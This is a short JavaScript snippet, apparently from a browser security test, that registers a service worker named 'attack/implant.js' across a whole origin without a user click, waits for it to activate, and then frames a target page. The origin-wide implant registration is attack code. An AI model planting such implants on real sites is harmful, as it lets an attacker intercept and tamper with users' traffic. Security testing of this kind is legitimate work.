// Without a click: a service worker for the whole origin, and a frame with the page.
"use strict";
(async () => {
  const script = `${prefix}attack/implant.js${location.search}`;
  const registration = await navigator.serviceWorker.register(script, { scope: "/" });
  const worker = registration.installing || registration.waiting || registration.active;
  while (worker.state !== "activated") {
    await new Promise((next) => setTimeout(next, 20));
  }
  const frame = document.createElement("iframe");
  frame.onload = () => finish("framed");
  frame.src = target;
  document.body.append(frame);
})().catch((error) => finish(error));
